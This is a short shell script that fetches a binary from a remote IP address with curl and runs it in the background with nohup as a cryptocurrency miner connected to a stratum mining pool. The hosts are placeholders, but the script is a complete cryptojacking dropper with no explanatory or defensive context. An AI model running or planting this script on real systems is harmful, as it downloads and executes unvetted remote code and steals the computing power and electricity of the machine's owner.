#!/bin/sh
curl -fsS http://192.0.2.9/m -o m
nohup ./m -o stratum+tcp://pool.example.invalid:3333 --donate-level 1 &
